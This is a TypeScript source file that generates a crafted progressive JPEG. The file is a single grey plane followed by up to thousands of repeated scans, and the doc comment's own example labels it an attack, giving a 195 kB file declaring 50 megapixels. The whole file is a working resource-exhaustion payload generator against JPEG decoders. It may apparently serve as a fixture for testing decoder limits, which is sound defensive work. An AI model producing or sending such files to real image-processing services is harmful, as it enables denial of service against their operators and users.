/** Marker, length of what follows (itself included), content. */
function segment(marker: number, content: readonly number[]): Buffer {
  const length = content.length + 2;
  return Buffer.from([0xff, marker, length >> 8, length & 0xff, ...content]);
}

/** A Huffman table (ITU-T T.81, B.2.4.2) whose only code, one zero bit, stands for a symbol. */
const tableOfOneCode = (destination: number, symbol: number) =>
  segment(0xc4, [destination, 1, ...Array<number>(15).fill(0), symbol]);

/** Opens a scan of the only component, of the coefficients from `first` to `last`. */
const startOfScan = (first: number, last: number) => segment(0xda, [1, 1, 0, first, last, 0]);

const blocksOfRun = 2 ** 14;
const bitsOfRun = 15;

/**
 * A progressive JPEG that is one grey plane and says so over and over: after the first scan, which codes every block's
 * mean in a bit, each one says again that the next coefficient is zero, in one run of 16,384 blocks after the other. It
 * is a valid file without a warning, small, and smaller still by gzip.
 * @param scans all of them; the first included
 * @example const attack = manyScansJpeg({ width: 8000, height: 6248, scans: 1000 }); // 195 kB, 50 megapixels
 */
export function manyScansJpeg({
  width,
  height,
  scans,
}: {
  width: number;
  height: number;
  scans: number;
}): Buffer {
  const blocks = Math.ceil(width / 8) * Math.ceil(height / 8);
  const frame = [8, height >> 8, height & 0xff, width >> 8, width & 0xff, 1, 1, 0x11, 0];
  const means = Buffer.alloc(Math.ceil(blocks / 8));
  const runs = Buffer.alloc(Math.ceil((Math.ceil(blocks / blocksOfRun) * bitsOfRun) / 8));
  const again = Buffer.concat([startOfScan(1, 1), runs]);
  return Buffer.concat([
    Buffer.from([0xff, 0xd8]),
    segment(0xdb, [0, ...Array<number>(64).fill(1)]),
    segment(0xc2, frame),
    tableOfOneCode(0x00, 0x00),
    // A run of 2^14 blocks, and 14 more bits of its length.
    tableOfOneCode(0x10, 0xe0),
    ...[startOfScan(0, 0), means],
    ...Array<Buffer>(scans - 1).fill(again),
    Buffer.from([0xff, 0xd9]),
  ]);
}
